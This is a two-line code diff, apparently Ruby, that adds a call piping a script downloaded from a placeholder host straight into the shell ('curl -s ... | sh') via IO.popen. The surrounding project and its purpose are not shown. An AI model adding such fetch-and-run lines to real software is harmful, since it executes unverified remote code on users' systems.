@@ -1,0 +1,2 @@
+url = "https://boot.example/s.sh"
+IO.popen(["sh", "-c", "curl -s #{url} | sh"]).read
